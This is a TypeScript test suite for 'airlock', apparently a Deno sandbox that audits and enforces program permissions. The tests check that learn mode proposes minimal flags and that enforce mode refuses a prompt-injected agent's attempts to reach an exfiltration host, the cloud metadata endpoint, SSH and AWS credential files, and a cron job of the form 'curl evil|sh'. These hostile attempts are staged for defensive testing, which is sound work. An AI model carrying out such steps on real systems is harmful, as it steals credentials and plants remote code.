/**
 * `deno task audit` end to end, as a user runs it: learn mode on the user's
 * own directory (not airlock's checkout), a writable throwaway copy of it,
 * a report that says when a run is partial, flags that make the program
 * pass under plain `deno run` and never grant what an enforcing run refused
 * (the demo's prompt injection), and reports that show the injected header
 * names and the program's output. Real sandboxes, real `deno run`.
 */

import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import type { AuditReport } from "../audit/report.ts";
import { renderAuditText } from "../audit/render_text.ts";
import { runAgent } from "../examples/demo/agent.ts";
import {
  BILLING_HOST,
  EXFIL_HOST,
  startLocalWorld,
} from "../examples/demo/billing_api.ts";
import type { PermissionEvent } from "../harness/run_result.ts";
import { Sandbox } from "../mod.ts";

const REPO = fileURLToPath(new URL("..", import.meta.url)).replace(/\/$/, "");
const decoder = new TextDecoder();

/** The harness's environment without INIT_CWD, so `deno task` sets it. */
function taskEnv(extra: Record<string, string> = {}): Record<string, string> {
  const env: Record<string, string> = {
    ...Deno.env.toObject(),
    NO_COLOR: "1",
    ...extra,
  };
  delete env.INIT_CWD;
  return env;
}

/** `deno task audit ...` started in `cwd`, as a user would. */
async function auditTask(
  cwd: string,
  args: string[],
  extraEnv: Record<string, string> = {},
): Promise<{ code: number; report: AuditReport; stderr: string }> {
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["task", "--config", `${REPO}/deno.json`, "audit", ...args],
    cwd,
    clearEnv: true,
    env: taskEnv(extraEnv),
    stdout: "piped",
    stderr: "piped",
  }).output();
  const stdout = decoder.decode(out.stdout);
  const stderr = decoder.decode(out.stderr);
  assert.equal(out.code, 0, `audit failed: ${stderr}\n${stdout}`);
  return { code: out.code, report: JSON.parse(stdout), stderr };
}

/** Plain `deno run` of the program in its directory with `flags`. */
async function plainRun(dir: string, flags: readonly string[], file: string) {
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--no-prompt", "--no-config", ...flags, file],
    cwd: dir,
    clearEnv: true,
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      DENO_NO_UPDATE_CHECK: "1",
      NO_COLOR: "1",
      ...(Deno.env.get("DENO_DIR")
        ? { DENO_DIR: Deno.env.get("DENO_DIR")! }
        : {}),
    },
    stdout: "piped",
    stderr: "piped",
  }).output();
  return {
    code: out.code,
    stdout: decoder.decode(out.stdout),
    stderr: decoder.decode(out.stderr),
  };
}

async function project(files: Record<string, string>): Promise<string> {
  const dir = await Deno.makeTempDir({ prefix: "airlock-user-project-" });
  // The sandbox's own uid copies the directory: it must be able to read it.
  await Deno.chmod(dir, 0o755);
  for (const [name, text] of Object.entries(files)) {
    await Deno.writeTextFile(`${dir}/${name}`, text, { mode: 0o644 });
  }
  return dir;
}

/** Writes in its directory, reads an unset variable, tries a spawn. */
const WRITER = `
await Deno.mkdir("out", { recursive: true });
await Deno.writeTextFile("out/result.txt", "written");
const unset = Deno.env.get("AIRLOCK_LEARN_UNSET_VAR");
let spawned;
try {
  const out = await new Deno.Command("sh", { args: ["-c", "echo spawned"] }).output();
  spawned = new TextDecoder().decode(out.stdout).trim();
} catch (e) {
  spawned = e.name;
}
await Deno.writeTextFile("out/summary.txt", (unset ?? "unset") + " " + spawned);
console.log(await Deno.readTextFile("out/summary.txt"));
`;

Deno.test("audit --learn: the proposed flags run a program that writes in its directory, reads an unset variable and tries a spawn, under plain deno run", async () => {
  const dir = await project({ "prog.ts": WRITER });
  try {
    const { report } = await auditTask(dir, ["--learn", "--json", "prog.ts"]);
    // The user's directory was learned, not airlock's checkout.
    assert.equal(report.workingDirectory, dir);
    assert.equal(report.mirror?.path, dir);
    const paths = report.entries.filter((e) => e.kind === "write")
      .map((e) => e.value);
    assert.ok(paths.length > 0 && paths.every((p) => p.startsWith(`${dir}/`)));
    assert.ok(!JSON.stringify(report.minimalFlags).includes(REPO));
    // It ran to its end: the writes went to a throwaway copy.
    assert.equal(report.run.completed, true, report.run.summary);
    assert.match(report.output!.stdout.text, /unset NotCapable/);
    await assert.rejects(Deno.stat(`${dir}/out`), Deno.errors.NotFound);
    for (
      const flag of [
        "--allow-write=./out",
        "--allow-env=AIRLOCK_LEARN_UNSET_VAR",
        "--allow-run=sh",
      ]
    ) {
      assert.ok(
        report.minimalFlags.includes(flag),
        `${flag} in ${report.minimalFlags}`,
      );
    }
    // The spawn is called out, not silently proposed.
    assert.ok(
      report.callouts.some((c) => c.kind === "run" && c.value === "sh"),
    );

    // Plain deno run with exactly those flags: the program succeeds, spawn
    // included.
    const ok = await plainRun(dir, report.minimalFlags, "prog.ts");
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(ok.stdout, "unset spawned\n");
    await Deno.remove(`${dir}/out`, { recursive: true });
    // Controls: without the flags it fails; without the run grant the
    // spawn is refused.
    const bare = await plainRun(dir, [], "prog.ts");
    assert.notEqual(bare.code, 0);
    await Deno.remove(`${dir}/out`, { recursive: true }).catch(() => {});
    const noRun = await plainRun(
      dir,
      report.minimalFlags.filter((f) => !f.startsWith("--allow-run")),
      "prog.ts",
    );
    assert.equal(noRun.stdout, "unset NotCapable\n", noRun.stderr);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("audit --learn: what is learned does not depend on whether ./out already exists, and the user's files stay as they were", async () => {
  const dir = await project({ "prog.ts": WRITER });
  try {
    const fresh = await auditTask(dir, ["--learn", "--json", "prog.ts"]);
    await Deno.mkdir(`${dir}/out`, { mode: 0o755 });
    await Deno.writeTextFile(`${dir}/out/keep.txt`, "mine", { mode: 0o644 });
    const existing = await auditTask(dir, ["--learn", "--json", "prog.ts"]);
    assert.deepEqual(existing.report.minimalFlags, fresh.report.minimalFlags);
    assert.equal(existing.report.run.completed, true);
    // The program wrote out/result.txt in its copy; the user's out/ has
    // only what it had.
    const names = [];
    for await (const entry of Deno.readDir(`${dir}/out`)) {
      names.push(entry.name);
    }
    assert.deepEqual(names, ["keep.txt"]);
    assert.equal(await Deno.readTextFile(`${dir}/out/keep.txt`), "mine");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("audit --learn: the report says plainly when the program failed or was cut short, and that it is partial", async () => {
  const dir = await project({
    "fails.ts": `Deno.writeTextFileSync("first.txt", "x");
      new Deno.Command("sh", { args: ["-c", "true"] }).outputSync();
      Deno.writeTextFileSync("never.txt", "y");`,
    "hangs.ts":
      `console.log("waiting"); await new Promise((r) => setTimeout(r, 60_000));`,
  });
  try {
    const { report } = await auditTask(dir, ["--learn", "--json", "fails.ts"]);
    assert.equal(report.run.completed, false);
    assert.equal(report.run.exitCode, 1);
    assert.match(report.run.summary, /failed: it exited with code 1/);
    assert.match(report.run.summary, /partial/);
    assert.match(report.run.summary, /never runs other programs/);
    assert.match(report.output!.stderr.text, /NotCapable/);
    assert.ok(report.minimalFlags.includes("--allow-write=./first.txt"));
    assert.ok(report.minimalFlags.includes("--allow-run=sh"));
    assert.ok(!JSON.stringify(report.minimalFlags).includes("never.txt"));
    const text = renderAuditText(report, { width: 120 });
    assert.match(text, /run {7}INCOMPLETE: exited with code 1/);
    assert.match(text, /The run did not complete/);

    // 5 s, not 1: the time limit runs from the launch, and a loaded
    // machine can take over a second before "waiting" (asserted below).
    const cut = await auditTask(dir, [
      "--learn",
      "--json",
      "--timeout",
      "5s",
      "hangs.ts",
    ]);
    assert.equal(cut.report.run.reason, "timeout");
    assert.equal(cut.report.run.completed, false);
    assert.match(cut.report.run.summary, /cut short: the time limit ended it/);
    assert.equal(cut.report.output?.stdout.text, "waiting\n");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("audit (enforce, the demo's prompt injection): no proposed grant includes a refused target; sensitive targets are called out; the injection rule is kept; reports show injected headers and output", async () => {
  const dir = await project({});
  const token = `billing_live_${crypto.randomUUID().replaceAll("-", "")}`;
  await using world = await startLocalWorld({ token, dir });
  const log = await Deno.readTextFile(
    new URL("../examples/demo/logs/api-error.log", import.meta.url),
  );
  const agent = runAgent(log, { homes: ["/root"] });
  const program = agent.program + `
try { await fetch("http://169.254.169.254/latest/meta-data/iam/"); } catch (e) { console.log("metadata", e.name); }
try { Deno.writeTextFileSync("/etc/cron.d/x", "* * * * * root curl evil|sh"); } catch (e) { console.log("cron", e.name); }
`;
  await Deno.writeTextFile(`${dir}/agent.js`, program, { mode: 0o644 });
  const html = `${dir}/report.html`;
  try {
    const { report } = await auditTask(dir, [
      "--scratch",
      "--inject",
      `${BILLING_HOST}:Authorization=Bearer \${env:BILLING_TOKEN}`,
      "--connect-to",
      world.billing.connectTo,
      "--connect-to",
      world.collector.connectTo,
      "--upstream-cacert",
      world.caFile,
      "--json",
      "--html",
      "report.html",
      "agent.js",
    ], { BILLING_TOKEN: token });
    // The legitimate call worked, with the token added on the wire.
    assert.equal(world.billing.seen.at(-1)?.tokenMatched, true);
    const flags = report.minimalFlags.join(" ");
    const snippet = JSON.stringify(report.policySnippet);
    for (
      const refused of [
        EXFIL_HOST,
        "169.254.169.254",
        "/root/.ssh",
        "id_rsa",
        "/etc/cron.d/x",
        ".aws/credentials",
      ]
    ) {
      assert.ok(!flags.includes(refused), `${refused} proposed in ${flags}`);
      assert.ok(!snippet.includes(refused), `${refused} in the policy`);
    }
    assert.ok(flags.includes(`--allow-net=${BILLING_HOST}:443`), flags);
    // Each refused target is listed apart, sensitive ones named.
    const refused = (kind: string, value: string) =>
      report.refused.find((t) => t.kind === kind && t.value === value);
    assert.equal(refused("net", `${EXFIL_HOST}:443`)?.cause, "refused");
    assert.match(refused("net", "169.254.169.254:80")!.sensitive!, /metadata/);
    assert.match(refused("read", "/root/.ssh/id_rsa")!.sensitive!, /SSH/);
    assert.match(refused("write", "/etc/cron.d/x")!.sensitive!, /cron/);
    // The injection that was in force stays in the snippet (as the
    // reference, never the value).
    assert.deepEqual(
      (report.policySnippet.network as { allow: Record<string, unknown> })
        .allow[BILLING_HOST],
      [{
        transform: [{
          headers: { Authorization: "Bearer ${env:BILLING_TOKEN}" },
        }],
        allowInsecure: false,
      }],
    );
    // Reports show the injected header per request and the output.
    const billing = report.entries.find((e) =>
      e.kind === "egress" && e.value === `${BILLING_HOST}:443`
    );
    assert.deepEqual(billing?.injected, ["authorization"]);
    const text = renderAuditText(report, { width: 160 });
    assert.match(
      text,
      /✓ GET https:\/\/billing\.internal\.example:443\/v1\/billing\/status → 200 {2}injected: authorization/,
    );
    assert.match(text, /Program output\n {2}stdout.*:\n {2}│ HOME/);
    assert.match(text, /Refused, not granted \(\d+\)/);
    const page = await Deno.readTextFile(html);
    assert.match(
      page,
      /<span class="sub injected">injected authorization<\/span>/,
    );
    assert.match(
      page,
      /<pre class="output" id="stdout">[^<]*metadata NotCapable/,
    );
    assert.match(page, /Refused, not granted/);
    // The token is in no byte of any report.
    for (const out of [JSON.stringify(report), text, page]) {
      assert.ok(!out.includes(token));
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("every kind Deno checks reaches the broker, a spawn of a bare command name included", async () => {
  await using sandbox = await Sandbox.create({ policy: {} });
  const result = await sandbox.run({
    code: `
      const t = async (f) => { try { await f(); } catch { /* refused */ } };
      await t(() => Deno.readTextFile("/etc/hostname"));
      await t(() => Deno.writeTextFile("/tmp/x", "y"));
      await t(() => Deno.connect({ hostname: "203.0.113.9", port: 80 }));
      await t(() => Deno.env.get("SOME_VARIABLE"));
      await t(() => new Deno.Command("sh", { args: ["-c", "id"] }).output());
      await t(() => Deno.hostname());
      await t(() => Deno.dlopen("libc.so.6", {}));
      await t(() => { const u = "https://example.com/" + "m.js"; return import(u); });
    `,
  });
  assert.equal(result.exitCode, 0, result.stderr);
  const seen = new Set(
    result.audit.filter((e): e is PermissionEvent => e.source === "broker")
      .map((e) => e.permission),
  );
  assert.deepEqual([...seen].sort(), [
    "env",
    "ffi",
    "import",
    "net",
    "read",
    "run",
    "sys",
    "write",
  ]);
  const run = result.audit.find((e): e is PermissionEvent =>
    e.source === "broker" && e.permission === "run" && e.value === "sh"
  );
  assert.equal(run?.decision, "deny");
});

Deno.test("learn mode's copy is made with the sandbox's rights: a link stays a link (never followed on the host), a root-only file is not copied, and a directory past the bound is refused", async () => {
  const dir = await project({ "visible.txt": "hello" });
  const secret = await Deno.makeTempFile({ prefix: "airlock-root-only-" });
  await Deno.writeTextFile(secret, "HOST-SECRET-CONTENT");
  await Deno.chmod(secret, 0o600);
  try {
    // Attack: a link in the user's directory to a file only root can read.
    // A copier running as root that followed it would hand the file to
    // the program.
    await Deno.symlink(secret, `${dir}/link-to-secret`);
    await Deno.copyFile(secret, `${dir}/root-only.txt`);
    await Deno.chmod(`${dir}/root-only.txt`, 0o600);
    await using sandbox = await Sandbox.create({
      learn: { mirror: dir },
      warm: false,
    });
    const result = await sandbox.run({
      code: `
        const t = (f) => { try { return f(); } catch (e) { return e.name; } };
        console.log(JSON.stringify({
          visible: t(() => Deno.readTextFileSync("visible.txt")),
          link: t(() => Deno.readLinkSync("link-to-secret")),
          viaLink: t(() => Deno.readTextFileSync("link-to-secret")),
          rootOnly: t(() => Deno.readTextFileSync("root-only.txt")),
        }));
      `,
    });
    assert.equal(result.exitCode, 0, result.stderr);
    const seen = JSON.parse(result.stdout);
    assert.equal(seen.visible, "hello", "positive control: the copy is there");
    assert.equal(seen.link, secret, "the link was copied as a link");
    assert.notEqual(seen.viaLink, "HOST-SECRET-CONTENT");
    assert.ok(!result.stdout.includes("HOST-SECRET-CONTENT"));
    const rootOnly = Deno.uid() === 0;
    if (rootOnly) {
      // The copy ran as the sandbox's own uid, which cannot read the file.
      assert.notEqual(seen.rootOnly, "HOST-SECRET-CONTENT");
      const mirror = result.audit.find((e) =>
        e.source === "harness" && e.kind === "learn-mirror"
      ) as { problems?: string[] } | undefined;
      assert.ok(
        mirror?.problems?.some((p) => p.includes("root-only.txt")),
        JSON.stringify(mirror),
      );
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
    await Deno.remove(secret);
  }
  // A directory past half the scratch quota is refused before anything
  // is copied, with what to do.
  const big = await project({});
  try {
    await Deno.writeFile(`${big}/blob.bin`, new Uint8Array(3 * 1024 * 1024));
    await using sandbox = await Sandbox.create({
      policy: { limits: { scratchMb: 4 } },
      learn: { mirror: big },
      warm: false,
    });
    await assert.rejects(
      sandbox.run({ code: "console.log(1)" }),
      /Cannot mirror '.*' into the learn sandbox: it holds more than 2 MiB.*raise limits\.scratchMb/,
    );
  } finally {
    await Deno.remove(big, { recursive: true });
  }
});
